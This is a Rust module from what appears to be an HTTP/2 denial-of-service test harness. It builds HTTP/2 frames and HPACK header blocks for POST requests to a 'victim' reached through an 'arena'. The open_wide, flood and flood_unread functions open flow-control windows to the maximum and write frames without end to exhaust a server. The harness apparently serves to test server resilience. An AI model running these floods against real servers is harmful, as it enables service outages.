//! HTTP/2 (RFC 9113) and as much of HPACK (RFC 7541) as writing needs.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

use crate::arena::Arena;

pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
pub(crate) const PRIORITY: u8 = 2;
pub(crate) const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const PING: u8 = 6;
pub(crate) const GOAWAY: u8 = 7;
pub(crate) const WINDOW_UPDATE: u8 = 8;
pub(crate) const CONTINUATION: u8 = 9;

pub(crate) const END_STREAM: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;

pub(crate) const HEADER_TABLE_SIZE: u16 = 1;
pub(crate) const INITIAL_WINDOW_SIZE: u16 = 4;

/// A window that is as open as it can be.
const WINDOW_MAX: u32 = 0x7fff_ffff;
/// What a connection's window is at first.
const WINDOW_FIRST: u32 = 65_535;

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

pub(crate) fn settings(values: &[(u16, u32)]) -> Vec<u8> {
    let mut payload = Vec::new();
    for (name, value) in values {
        payload.extend(name.to_be_bytes());
        payload.extend(value.to_be_bytes());
    }
    frame(SETTINGS, 0, 0, &payload)
}

pub(crate) fn window_update(stream: u32, increment: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &increment.to_be_bytes())
}

pub(crate) fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

/// A field, literal and not indexed.
pub(crate) fn field(name: &str, value: &[u8]) -> Vec<u8> {
    let mut block = vec![0];
    integer(0, 7, name.len(), &mut block);
    block.extend(name.as_bytes());
    integer(0, 7, value.len(), &mut block);
    block.extend(value);
    block
}

/// An integer with a prefix of so many bits (RFC 7541, section 5.1).
pub(crate) fn integer(first: u8, bits: u32, value: usize, out: &mut Vec<u8>) {
    let most = (1_usize << bits) - 1;
    if value < most {
        out.push(first | value as u8);
        return;
    }
    out.push(first | most as u8);
    let mut rest = value - most;
    while rest >= 128 {
        out.push(rest as u8 | 128);
        rest >>= 7;
    }
    out.push(rest as u8);
}

/// The block of a POST's head.
pub(crate) fn post(path: &str, content_type: &str, fields: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    let own = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "victim"),
        (":path", path),
        ("content-type", content_type),
        ("te", "trailers"),
    ];
    for (name, value) in own.iter().chain(fields) {
        block.extend(field(name, value.as_bytes()));
    }
    block
}

/// A connection to the victim.
pub(crate) struct Http2 {
    pub(crate) read: OwnedReadHalf,
    pub(crate) write: OwnedWriteHalf,
}

/// What a flood came to.
#[derive(Debug, Default)]
pub(crate) struct Flooded {
    /// Pieces that the socket took.
    pub(crate) pieces: u64,
    /// Whether the victim ended the connection.
    pub(crate) closed: bool,
}

impl Http2 {
    /// Sends the preface and a SETTINGS frame.
    pub(crate) async fn open(arena: &Arena, values: &[(u16, u32)]) -> io::Result<Self> {
        let socket: TcpStream = arena.connect().await?;
        let (read, mut write) = socket.into_split();
        write
            .write_all(&[PREFACE, &settings(values)].concat())
            .await?;
        Ok(Self { read, write })
    }

    /// With windows as open as they can be.
    pub(crate) async fn open_wide(arena: &Arena) -> io::Result<Self> {
        let mut connection = Self::open(arena, &[(INITIAL_WINDOW_SIZE, WINDOW_MAX)]).await?;
        let update = window_update(0, WINDOW_MAX - WINDOW_FIRST);
        connection.send(&update).await?;
        Ok(connection)
    }

    pub(crate) async fn send(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.write.write_all(bytes).await
    }

    /// Opens a stream with this head.
    pub(crate) async fn head(&mut self, stream: u32, flags: u8, block: &[u8]) -> io::Result<()> {
        let frame = frame(HEADERS, flags | END_HEADERS, stream, block);
        self.send(&frame).await
    }

    /// The next frame: its kind, flags, stream and payload.
    pub(crate) async fn next(&mut self) -> io::Result<(u8, u8, u32, Vec<u8>)> {
        let mut head = [0; 9];
        self.read.read_exact(&mut head).await?;
        let [a, b, c, kind, flags, s0, s1, s2, s3] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        self.read.read_exact(&mut payload).await?;
        let stream = u32::from_be_bytes([s0, s1, s2, s3]);
        Ok((kind, flags, stream, payload))
    }

    /// All DATA of a stream to its end or reset, for at most `patience`;
    /// whether it ended.
    pub(crate) async fn answer(&mut self, of: u32, patience: Duration) -> (bool, Vec<u8>) {
        let mut data = Vec::new();
        let reading = async {
            while let Ok((kind, flags, stream, payload)) = self.next().await {
                let is_ours = stream == of;
                if kind == DATA && is_ours {
                    data.extend(payload);
                }
                let ends = matches!(kind, DATA | HEADERS) && flags & END_STREAM != 0;
                if is_ours && (ends || kind == RST_STREAM) || kind == GOAWAY {
                    return;
                }
            }
        };
        let ended = tokio::time::timeout(patience, reading).await.is_ok();
        (ended, data)
    }

    /// Writes pieces until the attack's end or that of the connection, and reads
    /// what comes meanwhile.
    pub(crate) async fn flood(
        self,
        arena: &Arena,
        mut piece: impl FnMut(u64) -> Vec<u8>,
    ) -> Flooded {
        let (mut read, mut write) = (self.read, self.write);
        let mut flooded = Flooded::default();
        let writing = async {
            loop {
                if write.write_all(&piece(flooded.pieces)).await.is_err() {
                    return;
                }
                flooded.pieces += 1;
                arena.add(1);
            }
        };
        let ended = arena
            .until_the_end(async {
                tokio::select! {
                    () = writing => {}
                    _ = crate::arena::discard(&mut read) => {}
                }
            })
            .await;
        flooded.closed = ended.is_some();
        flooded
    }

    /// As [`flood`](Self::flood), and reads nothing at all.
    pub(crate) async fn flood_unread(
        mut self,
        arena: &Arena,
        mut piece: impl FnMut(u64) -> Vec<u8>,
    ) -> Flooded {
        let mut flooded = Flooded::default();
        let writing = async {
            while self.send(&piece(flooded.pieces)).await.is_ok() {
                flooded.pieces += 1;
                arena.add(1);
            }
        };
        flooded.closed = arena.until_the_end(writing).await.is_some();
        flooded
    }
}
